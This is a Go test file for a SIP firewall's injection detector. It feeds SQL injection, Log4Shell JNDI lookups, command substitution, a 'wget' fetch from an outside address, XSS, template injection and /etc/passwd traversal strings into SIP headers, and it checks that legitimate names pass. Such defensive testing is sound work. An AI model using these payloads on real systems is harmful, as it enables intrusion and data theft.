package injection

import (
	"strings"
	"testing"

	"github.com/ringwall/ringwall/check/checktest"
	"github.com/ringwall/ringwall/edge"
)

func TestHostile(t *testing.T) {
	for _, text := range []string{
		"' or 1=1--", "100' OR '1'='1", "%27%20or%201%3D1--", "%2527%2520or%25201%253D1", "';EXEC xp_cmdshell('id')--", "1; DROP TABLE users", "x' UNION SELECT 1,2--",
		"1 union all select password from subscriber", "1/**/UNION/**/SELECT/**/1", "admin'--", "admin' #", "') or ('a'='a", "1' AND SLEEP(5)#", "'||'a", "pg_sleep(10)",
		"1 WAITFOR DELAY '0:0:5'", "${jndi:ldap://203.0.113.9/a}", "$(id)", "`id`", "a;wget http://203.0.113.9/x", "<script>alert(1)</script>", "{{7*7}}",
		"%n%n%n", "x%00y", "..%2f..%2f..%2fetc/passwd", "\" or \"a\"=\"a",
	} {
		x := checktest.Exchange(t, checktest.Request("REGISTER", "sip:example.com", `Authorization: Digest username="`+escaped(text)+`", realm="r", nonce="n", uri="sip:h", response="0"`))
		if v := checktest.Opinion(New().Inspect(x)); v.Reason != "injection.text" || v.Score != 5 || v.Action != edge.Reply || v.Status != 400 {
			t.Errorf("%s: %+v", text, v)
		}
	}
}

// TestPlaces: each kind of text is found in each place where it may stand.
func TestPlaces(t *testing.T) {
	inUsers := []string{"1'or'1'='1", "admin'--", "%27%20or%201%3D1--", "1-sleep(5)", "benchmark(9,9)", "pg_sleep(9)", "1/**/union/**/select/**/1", "1)union(select(1", "%24%7Bjndi:x%7D", "$(id)",
		"%60id%60", "%3Cscript%3E", "..%2f..%2fetc/passwd", "/etc/passwd", "xp_cmdshell", "information_schema", "x%00y", "%2527%2520or%25201%253d1", "1%20union%20select%201", "%7B%7B7*7%7D%7D"}
	inNames := []string{"<script>alert(1)</script>", "1 union select 1", "1 WAITFOR DELAY 5", "1 into outfile x", "x' or 'a'='a", "1 or 1=1", "1; drop table x", "sleep(9)", "waitfor delay '0'", "$(id)", "`id`", "into outfile '/x'", "x\" or \"a\"=\"a"}
	look := func(where, text, uri string, fields ...string) {
		if v := checktest.Opinion(New().Inspect(checktest.Exchange(t, checktest.Request("INVITE", uri, fields...)))); v.Score != points {
			t.Errorf("%s: %s: %+v", where, text, v)
		}
	}
	const uri = "sip:100@example.com"
	for _, text := range inUsers {
		hostile := "sip:" + text + "@example.com"
		look("Request-URI", text, hostile, "To: <sip:100@example.com>")
		for _, name := range []string{"From", "To", "Contact", "Refer-To", "Referred-By"} {
			look(name, text, uri, name+": <"+hostile+">;tag=1")
		}
	}
	for _, text := range inNames {
		look("From's name", text, uri, `From: "`+escaped(text)+`" <sip:1@h>;tag=1`)
		look("To's name", text, uri, `To: "`+escaped(text)+`" <sip:1@h>`)
		for _, form := range []string{`username="%s", realm="r"`, `Username="%s", realm="r"`, `username = "%s"`, `realm="%s"`, `opaque="username=", username="%s"`, `cnonce="x\" username=\"", username="%s"`} {
			look(form, text, uri, "Authorization: Digest nonce=\"n\", "+strings.Replace(form, "%s", escaped(text), 1))
		}
	}
	look("Subject", "union", uri, "Subject: 1 union select 2")
	look("User-Agent", "script", uri, "User-Agent: <script>alert(1)</script>")
	look("uri of credentials", "quote", uri, `Authorization: Digest username="x", uri="sip:1'or'1'='1@h"`)
}

// escaped keeps a text inside quotes.
func escaped(text string) (out string) {
	for _, c := range []byte(text) {
		switch c {
		case '"', '\\':
			out += "\\"
		}
		out += string(c)
	}
	return out
}

// TestLegalNames: names that people have, and that patterns stumble over.
func TestLegalNames(t *testing.T) {
	for _, name := range []string{
		"o'brien", "O'Reilly", "d'or", "l'hospital", "n'or-kim", "user=1", "a--b", "dev#7", "Zm9vYmFyCg==", "100%24x", "select.union", "union.select@x", "drop-in", "update;phone",
		"and_or", "o'and", "rock'n'roll", "100%25", "a&b", "c++", "semi%3Bcolon", "dollar$", "j.doe(home)", "executor", "tom's-phone", "or1", "x'y'z", "sleepy", "band;id=1",
	} {
		uri := "sip:" + name + "@example.com"
		if Hostile([]byte("<" + uri + ">;tag=a")) {
			t.Errorf("%s is hostile", name)
		}
	}
	for _, name := range []string{"O'Brien, Pat", "Müller & Co. (Berlin)", "Dept. 4/5", "a_b; c=d", "Union Station", "Selector", "1*2*3", "<none>", "Mary Or Ann", "Office = 12", "R/D <lab>"} {
		for _, field := range []string{"From", "To"} {
			x := checktest.Exchange(t, checktest.Request("INVITE", "sip:*97@example.com", field+`: "`+name+`" <sip:john_doe@h>;tag=a_b`))
			if v := New().Inspect(x); v != nil {
				t.Errorf("%s is hostile: %+v", name, v)
			}
		}
	}
	for _, text := range []string{`"O'Brien, Pat" <sip:1@h>`, "Linphone/4.4.0 (belle-sip/5.0)", "Mozilla/5.0 (X11; Linux x86_64; rv:1)", "Cisco/SPA504G-7.6.2e", `"Tom & Jerry's" <sip:2@h>;tag=1`} {
		if Hostile([]byte(text)) {
			t.Errorf("%s is hostile", text)
		}
	}
}

func FuzzHostile(f *testing.F) {
	f.Add([]byte("%2527%20or"))
	f.Fuzz(func(_ *testing.T, b []byte) { Hostile(b) })
}
